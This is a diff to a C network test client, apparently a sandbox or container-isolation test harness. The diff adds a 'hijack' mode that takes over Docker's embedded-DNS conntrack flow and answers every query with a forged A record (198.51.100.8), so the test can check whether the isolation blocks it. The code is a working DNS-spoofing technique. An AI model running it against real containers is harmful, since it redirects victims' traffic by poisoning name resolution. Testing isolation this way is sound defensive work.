@@ -26,6 +26,9 @@
  *                                     line per attempt; exit 0 if every
  *                                     attempt failed, 3 if one succeeded
  *   moat-client marker PATH           create PATH (proves the process ran)
+ *   moat-client hijack WAIT SERVE     the DNS flow hijack of issue 11, item
+ *                                     4 (see do_hijack); prints READY, then
+ *                                     "SENT|EPERM forged N" at the end
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -36,6 +39,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <time.h>
 #include <unistd.h>
 #include <arpa/inet.h>
 #include <linux/bpf.h>
@@ -517,6 +521,77 @@ static int do_attack(void)
 	return succeeded ? 3 : 0;
 }
 
+/*
+ * The resolver daemon keeps a socket 127.0.0.1:P -> 127.0.0.11:53 in the
+ * container's netns. Bind 127.0.0.11:53 (Docker DNATs port 53 away from it,
+ * so it is free), wait WAIT s until conntrack has forgotten the daemon's
+ * DNAT flow (30 s of DNS silence), send from there to 127.0.0.1:P (every
+ * 300 ms, so the flow stays ours) and answer every query that arrives
+ * with A 198.51.100.8, for SERVE s.
+ */
+static int do_hijack(const char *wait_s, const char *serve_s)
+{
+	struct sockaddr_in self = { .sin_family = AF_INET, .sin_port = htons(53) };
+	struct sockaddr_in to = { .sin_family = AF_INET };
+	unsigned int lport, laddr, raddr, rport, port = 0, forged = 0;
+	char line[512], res[8] = "SENT";
+	unsigned char q[1500], a[1600], junk[12] = { 0 };
+	time_t end, last = 0;
+	FILE *f = fopen("/proc/net/udp", "r");
+	int fd;
+
+	while (f && fgets(line, sizeof(line), f))
+		if (sscanf(line, " %*d: %x:%x %x:%x", &laddr, &lport, &raddr, &rport) == 4 &&
+		    laddr == 0x0100007f && raddr == 0x0b00007f && rport == 53)
+			port = lport;
+	if (f)
+		fclose(f);
+	if (!port) {
+		puts("NOSOCKET");
+		return 2;
+	}
+	inet_pton(AF_INET, "127.0.0.11", &self.sin_addr);
+	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
+	to.sin_port = htons(port);
+	fd = socket(AF_INET, SOCK_DGRAM, 0);
+	if (fd < 0 || bind(fd, (struct sockaddr *)&self, sizeof(self)))
+		return report(errno);
+	sleep(atoi(wait_s));
+	end = time(NULL) + atoi(serve_s);
+	while (time(NULL) < end) {
+		struct pollfd p = { .fd = fd, .events = POLLIN };
+		struct sockaddr_in from;
+		socklen_t fl = sizeof(from);
+		ssize_t n;
+
+		if (time(NULL) != last) {
+			for (int i = 0; i < 3; i++)
+				if (sendto(fd, junk, sizeof(junk), 0, (struct sockaddr *)&to,
+					   sizeof(to)) < 0 && errno == EPERM)
+					strcpy(res, "EPERM");
+			if (!last)
+				puts("READY");
+			last = time(NULL);
+		}
+		if (poll(&p, 1, 300) != 1)
+			continue;
+		n = recvfrom(fd, q, sizeof(q), 0, (struct sockaddr *)&from, &fl);
+		if (n < 12)
+			continue;
+		memcpy(a, q, 2);
+		memcpy(a + 2, "\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00", 10);
+		memcpy(a + 12, q + 12, n - 12);
+		memcpy(a + n, "\xc0\x0c\x00\x01\x00\x01\x00\x00\x01\x2c\x00\x04"
+		       "\xc6\x33\x64\x08", 16);	/* A 198.51.100.8, TTL 300 */
+		if (sendto(fd, a, n + 16, 0, (struct sockaddr *)&from, fl) < 0)
+			strcpy(res, errno == EPERM ? "EPERM" : res);
+		else
+			forged++;
+	}
+	printf("%s forged %u\n", res, forged);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -532,12 +607,14 @@ int main(int argc, char **argv)
 		return do_addr(argv[2], argv[3]);
 	if (argc == 2 && !strcmp(argv[1], "attack"))
 		return do_attack();
+	if (argc == 4 && !strcmp(argv[1], "hijack"))
+		return do_hijack(argv[2], argv[3]);
 	if (argc == 3 && !strcmp(argv[1], "marker")) {
 		int fd = open(argv[2], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
 
 		return fd < 0 ? report(errno) : (close(fd), 0);
 	}
 	fprintf(stderr, "usage: %s tcp|udp ADDR PORT | dns NAME [SERVER] | serve PORT |"
-		" addr IFNAME 4|6 | attack | marker PATH\n", argv[0]);
+		" addr IFNAME 4|6 | attack | marker PATH | hijack WAIT SERVE\n", argv[0]);
 	return 2;
 }
